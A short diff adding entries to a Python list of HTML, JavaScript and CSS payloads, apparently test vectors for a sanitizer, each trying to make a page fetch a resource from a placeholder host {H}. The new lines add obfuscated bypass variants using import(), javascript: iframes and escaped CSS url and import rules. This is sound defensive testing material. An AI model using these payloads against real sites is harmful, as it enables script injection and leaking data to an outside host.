@@ -52,6 +52,9 @@ REACHES = [
     f"<script src=\"data:text/html,import('//{H}/x')\"></script>", f"<svg><script href=\"data:;base64 ,{base64.b64encode(f'import(`//{H}/x`)'.encode()).decode()}\"></script></svg>",
     f"<iframe src=\"javascript:'\\x3cimg src=//{H}/x\\x3e'\"></iframe>",
     f"<link rel=modulepreload href=\"data:text/javascript,import('//{H}/x')\">",
+    f"<script>[...import('//{H}/x')]</script>", f"<script>a={{...import('//{H}/x')}}</script>", f"<script>...import('//{H}/x')</script>",
+    f"<iframe src=\"javascript:'<!--','<img src=http://{H}/x>'\"></iframe>", f"<iframe src=\"javascript:'<title>';'<img src=//{H}/x>'\"></iframe>",
+    f"<iframe src=\"javascript:/*<style>'*/'<img src=//{H}/x>'\"></iframe>", f"<iframe src=\"javascript:'<im'+'g src=//{H}/x>'\"></iframe>",
     # style sheets
     f"<style>@namespace svg \"http://www.w3.org/2000/svg\";p{{b:url(//{H}/x)}}</style>", f"<style>@namespace url(/own);p{{b:url(//{H}/x)}}</style>",
     f"<style>@namespace a;p{{b:url(//{H}/x)}}</style>", f"<style>p{{b:u\\72\r\nl(//{H}/x)}}</style>", f"<style>@\\69\r\nmport '//{H}/x';</style>",
